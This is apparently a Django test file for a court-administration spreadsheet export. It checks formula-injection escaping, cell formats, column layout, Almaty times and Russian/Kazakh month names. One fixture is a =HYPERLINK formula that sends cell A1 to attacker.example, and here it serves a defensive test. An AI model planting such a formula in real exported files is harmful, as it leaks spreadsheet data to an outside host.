"""Every export's cells: text stays text (OWASP formula injection), dates and numbers stay
what they are."""

from datetime import date
from io import BytesIO

from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from courtadmin.core.workbooks import single_sheet


def test_a_text_that_looks_like_a_formula_is_written_as_text():
    typed = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    content = single_sheet("Sheet", ["Name", "Date", "Count"], [[typed, date(2026, 11, 2), 3]])
    sheet = load_workbook(BytesIO(content)).active
    name, day, count = sheet[2]
    assert name.value == typed and name.data_type == "s"
    assert day.value.date() == date(2026, 11, 2) and count.value == 3
    assert sheet["A1"].value == "Name"


def test_a_lazy_translation_is_written_as_its_text():
    content = single_sheet(gettext_lazy("Complaints"), [gettext_lazy("Status")], [])
    sheet = load_workbook(BytesIO(content)).active
    assert isinstance(sheet["A1"].value, str) and sheet["A1"].value


def test_a_table_is_laid_out_for_reading():
    """The working-day issue, item 12: widths (a date never shows as ###), a bold header frozen
    at the top that filters its columns, dates as dates shown day.month.year, times in
    Almaty's time."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    signed = datetime(2026, 11, 24, 5, 30, tzinfo=ZoneInfo("UTC"))  # 10:30 in Almaty
    rows = [["ISD-2026/1", date(2026, 11, 2), signed, "Астана қаласы Сарыарқа аудандық соты"]] * 3
    content = single_sheet("Complaints", ["Number", "Received", "Signed", "Court"], rows)
    sheet = load_workbook(BytesIO(content)).active
    assert all(cell.font.bold for cell in sheet[1]) and not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D4"
    assert sheet["B2"].number_format == "DD.MM.YYYY" and sheet["B2"].value.date() == date(2026, 11, 2)
    assert sheet["C2"].number_format == "DD.MM.YYYY HH:MM" and sheet["C2"].value.hour == 10
    widths = {column: sheet.column_dimensions[column].width for column in "ABCD"}
    assert widths["B"] >= len("02.11.2026") and widths["D"] >= len("Астана қаласы Сарыарқа аудандық соты")


def test_the_boards_months_are_named_in_full_with_their_year(settings):
    from django.utils import translation

    from courtadmin.dashboard.export import month_name

    with translation.override("ru"):
        assert month_name(date(2026, 1, 1)) == "Январь 2026"
    with translation.override("kk"):
        assert month_name(date(2026, 11, 1)) == "Қараша 2026"
